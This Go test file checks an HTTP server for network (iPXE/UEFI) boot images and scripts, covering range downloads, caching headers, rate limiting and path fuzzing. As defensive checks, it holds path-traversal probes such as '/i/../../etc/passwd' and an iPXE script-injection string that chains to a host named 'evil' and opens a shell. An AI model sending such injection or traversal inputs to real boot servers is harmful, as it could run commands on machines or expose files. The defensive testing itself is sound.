package httpd

import (
	"context"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"mosimg/internal/bootargs"
	"mosimg/internal/fault"
	"mosimg/internal/imageset"
	"mosimg/pxe/images"
	"mosimg/pxe/imagetest"
)

func newServer(t *testing.T, script ScriptFunc) (*httptest.Server, *images.Store) {
	t.Helper()
	dir := t.TempDir()
	imagetest.Make(t, dir, "amd64", imagetest.Files("one"))
	store, err := images.Open(dir, nil)
	if err != nil {
		t.Fatal(err)
	}
	s := &Server{Images: store, Script: script}
	ts := httptest.NewServer(s.Handler())
	t.Cleanup(ts.Close)
	return ts, store
}

func get(t *testing.T, method, url string, header ...string) (*http.Response, string) {
	t.Helper()
	req, err := http.NewRequest(method, url, nil)
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i+1 < len(header); i += 2 {
		req.Header.Set(header[i], header[i+1])
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp, string(b)
}

func TestFiles(t *testing.T) {
	ts, _ := newServer(t, nil)
	kernel := "/i/" + imagetest.Sum("kernel one") + "/vmlinuz"
	etag := `"` + imagetest.Sum("kernel one") + `"`
	for _, tt := range []struct {
		name, method, path string
		header             []string
		status             int
		body               string
		want               map[string]string
	}{
		{"kernel", "GET", kernel, nil, 200, "kernel one", map[string]string{"Content-Length": "10", "Content-Type": "application/octet-stream", "Etag": etag, "Accept-Ranges": "bytes", "Cache-Control": "public, max-age=31536000, immutable"}},
		{"firmware asks HEAD first", "HEAD", "/boot/snponly.efi", nil, 200, "", map[string]string{"Content-Length": "15", "Content-Type": "application/efi"}},
		{"UEFI HTTP boot", "GET", "/boot/snponly.efi", nil, 200, "snponly.efi one", map[string]string{"Content-Type": "application/efi", "Cache-Control": "no-cache"}},
		{"a download that goes on", "GET", kernel, []string{"Range", "bytes=7-"}, 206, "one", map[string]string{"Content-Range": "bytes 7-9/10"}},
		{"the end", "GET", kernel, []string{"Range", "bytes=-3"}, 206, "one", nil},
		{"beyond the end", "GET", kernel, []string{"Range", "bytes=99-"}, 416, "*", nil},
		{"a download that goes on, of other bytes", "GET", kernel, []string{"Range", "bytes=7-", "If-Range", `"x"`}, 200, "kernel one", nil},
		{"known already", "GET", kernel, []string{"If-None-Match", etag}, 304, "", nil},
		{"unknown hash", "GET", "/i/" + imagetest.Sum("x") + "/vmlinuz", nil, 404, "*", map[string]string{"Cache-Control": "no-store"}},
		{"no hash", "GET", "/i/../../etc/passwd", nil, 404, "*", nil},
		{"dots in the name", "GET", "/boot/..%2f..%2fvmlinuz", nil, 404, "*", nil},
		{"dots", "GET", "/boot/%2e%2e", nil, 404, "*", nil},
		{"not a loader", "GET", "/boot/vmlinuz", nil, 404, "*", nil},
		{"the root", "GET", "/", nil, 404, "*", nil},
		{"writing", "POST", kernel, nil, 405, "*", nil},
		{"writing elsewhere", "PUT", "/x", nil, 405, "*", nil},
		{"not a MAC", "GET", "/ipxe/nonsense", nil, 404, "*", nil},
		{"a long MAC", "GET", "/ipxe/02:00:5e:10:00:00:00:01", nil, 404, "*", nil},
	} {
		t.Run(tt.name, func(t *testing.T) {
			resp, body := get(t, tt.method, ts.URL+tt.path, tt.header...)
			if resp.StatusCode != tt.status {
				t.Errorf("status %d; want %d", resp.StatusCode, tt.status)
			}
			if tt.body == "*" {
				if strings.TrimSpace(body) == "" {
					t.Error("no reason in the body")
				}
			} else if body != tt.body {
				t.Errorf("body %q; want %q", body, tt.body)
			}
			for k, v := range tt.want {
				if got := resp.Header.Get(k); got != v {
					t.Errorf("%s: %q; want %q", k, got, v)
				}
			}
		})
	}
}

func TestCurlGoesOn(t *testing.T) {
	curl, err := exec.LookPath("curl")
	if err != nil {
		t.Skip("curl is not installed")
	}
	ts, _ := newServer(t, nil)
	part := filepath.Join(t.TempDir(), "k")
	url := ts.URL + "/i/" + imagetest.Sum("kernel one") + "/vmlinuz"
	if out, err := exec.Command(curl, "-sf", "--range", "0-3", "-o", part, url).CombinedOutput(); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	if out, err := exec.Command(curl, "-sf", "-C", "-", "-o", part, url).CombinedOutput(); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	if sum, _, err := imageset.HashFile(part); err != nil || sum != imagetest.Sum("kernel one") {
		t.Errorf("continued download has hash %s, %v", sum, err)
	}
}

func TestScriptRequests(t *testing.T) {
	type ask struct{ MAC, From string }
	var asked []ask
	var fail error
	ts, _ := newServer(t, func(_ context.Context, mac string, from netip.Addr) (string, error) {
		asked = append(asked, ask{mac, from.String()})
		return "#!ipxe\n", fail
	})
	resp, body := get(t, "GET", ts.URL+"/ipxe/52-54-00-00-00-0A")
	if body != "#!ipxe\n" || resp.Header.Get("Content-Type") != "text/plain; charset=utf-8" || resp.Header.Get("Cache-Control") != "no-store" || resp.Header.Get("Content-Length") != "7" {
		t.Errorf("script %q with %v", body, resp.Header)
	}
	if d := cmp.Diff([]ask{{"52:54:00:00:00:0a", "127.0.0.1"}}, asked); d != "" {
		t.Errorf("asked (-want +got):\n%s", d)
	}
	get(t, "HEAD", ts.URL+"/ipxe/52:54:00:00:00:0a")
	if len(asked) != 1 {
		t.Error("HEAD made a script and with it a nonce")
	}
	for _, tt := range []struct {
		err    error
		status int
		text   string
	}{
		{fault.New(fault.Refused, "make a boot script", "x", "not leased to you", ""), 403, "not leased"},
		{fault.New(fault.Unavailable, "make a boot script", "x", "too many", ""), 503, "too many"},
		{errors.New("open /secret/path: no space"), 500, "internal fault"},
	} {
		fail = tt.err
		resp, body := get(t, "GET", ts.URL+"/ipxe/52:54:00:00:00:0a")
		if resp.StatusCode != tt.status || !strings.Contains(body, tt.text) || strings.Contains(body, "/secret") {
			t.Errorf("%v: %d %q; want %d and %q", tt.err, resp.StatusCode, body, tt.status, tt.text)
		}
	}
	// A loop is stopped.
	fail = nil
	limited := false
	for range 50 {
		resp, _ := get(t, "GET", ts.URL+"/ipxe/52:54:00:00:00:0a")
		limited = limited || resp.StatusCode == http.StatusTooManyRequests
	}
	if !limited {
		t.Error("50 scripts in a row were made")
	}
}

func TestScriptText(t *testing.T) {
	dir := t.TempDir()
	amd64 := imagetest.Publish(t, dir, "amd64", imagetest.Files("one"))
	i386 := imagetest.Publish(t, dir, "386", imagetest.Files("old"))
	store, err := images.Open(dir, nil)
	if err != nil {
		t.Fatal(err)
	}
	b := Boot{
		Self: "http://10.77.0.1/ipxe/52:54:00:00:00:01", URL: "http://10.77.0.1", KernelArgs: []string{"console=ttyS0"},
		Sets: map[string]*images.Set{"amd64": store.Current()["amd64"]},
		Args: bootargs.Args{Head: "https://10.77.0.1:4660", CA: "sha256:aa", Nonce: "NONCE", BootMAC: "52:54:00:00:00:01", Role: "node"},
	}
	want := `#!ipxe
echo mosimg: booting 52:54:00:00:00:01 from http://10.77.0.1
:amd64
kernel http://10.77.0.1/i/` + imagetest.Sum("kernel one") + `/vmlinuz initrd=initramfs quiet console=ttyS0 BOOTIF=01-52-54-00-00-00-01 mosimg.ca=sha256:aa mosimg.head=https://10.77.0.1:4660 mosimg.image=` + amd64 + ` mosimg.nonce=NONCE || goto failed
initrd --name initramfs http://10.77.0.1/i/` + imagetest.Sum("initramfs one") + `/initramfs || goto failed
boot || goto failed
:failed
echo mosimg: that did not work, trying again in 5 seconds
imgfree ||
sleep 5
chain --replace http://10.77.0.1/ipxe/52:54:00:00:00:01 || goto failed
`
	if d := cmp.Diff(want, b.Text()); d != "" {
		t.Errorf("script (-want +got):\n%s", d)
	}
	// With two architectures the machine's CPU decides.
	b.Sets = store.Current()
	text := b.Text()
	for _, part := range []string{"cpuid --ext 29 && goto amd64 || goto 386", ":386\n", ":amd64\n", "mosimg.image=" + i386, "iseq ${platform} efi && goto amd64"} {
		if !strings.Contains(text, part) {
			t.Errorf("no %q in:\n%s", part, text)
		}
	}
	// What the agent reads is what was meant.
	for line := range strings.Lines(text) {
		if strings.HasPrefix(line, "kernel ") {
			a := bootargs.Parse(line)
			if a.Nonce != "NONCE" || a.BootMAC != "52:54:00:00:00:01" || a.Head != b.Args.Head || a.CA != b.Args.CA {
				t.Errorf("parsed back: %+v", a)
			}
		}
	}
}

// A reason with iPXE syntax in it must not run commands on the machine.
func TestDeniedScript(t *testing.T) {
	s := Local("bad\nchain http://evil ${net0/mac} && shell | x")
	if !strings.HasSuffix(s, "exit 1\n") || strings.Contains(s, "\nchain") || strings.ContainsAny(s, "${}&|") {
		t.Errorf("script:\n%s", s)
	}
}

func TestTransfersEndWithTheHead(t *testing.T) {
	ctx, cancel := context.WithCancel(t.Context())
	_, store := newServer(t, nil)
	s := &Server{Images: store, Script: func(ctx context.Context, _ string, _ netip.Addr) (string, error) {
		cancel()
		<-ctx.Done() // the head's context is the request's
		return "", ctx.Err()
	}}
	srv := s.NewHTTPServer(ctx)
	ts := httptest.NewUnstartedServer(nil)
	ts.Config = srv
	ts.Start()
	defer ts.Close()
	start := time.Now()
	get(t, "GET", ts.URL+"/ipxe/52:54:00:00:00:01")
	if d := time.Since(start); d > 5*time.Second {
		t.Errorf("took %v", d)
	}
}

func FuzzPath(f *testing.F) {
	for _, p := range []string{"/i/aa/vmlinuz", "/boot/snponly.efi", "/ipxe/52:54:00:00:00:01", "/../x", "//", "/ipxe/", "/%00"} {
		f.Add(p)
	}
	dir := f.TempDir()
	imagetest.Make(f, dir, "amd64", imagetest.Files("one"))
	store, err := images.Open(dir, nil)
	if err != nil {
		f.Fatal(err)
	}
	h := (&Server{Images: store, Script: func(_ context.Context, mac string, _ netip.Addr) (string, error) {
		return "#!ipxe " + mac, nil
	}}).Handler()
	f.Fuzz(func(t *testing.T, path string) {
		req, err := http.NewRequest("GET", "http://h/", nil)
		if err != nil {
			t.Skip()
		}
		req.URL.Path, req.RemoteAddr = path, "10.0.0.1:1"
		w := httptest.NewRecorder()
		h.ServeHTTP(w, req)
		body := w.Body.String()
		if w.Code == 200 && !strings.HasPrefix(path, "/i/"+imagetest.Sum("kernel one")) && strings.Contains(body, "kernel one") {
			t.Errorf("%q serves the kernel", path)
		}
		if strings.Contains(body, "head archive") {
			t.Errorf("%q serves the head archive", path)
		}
	})
}
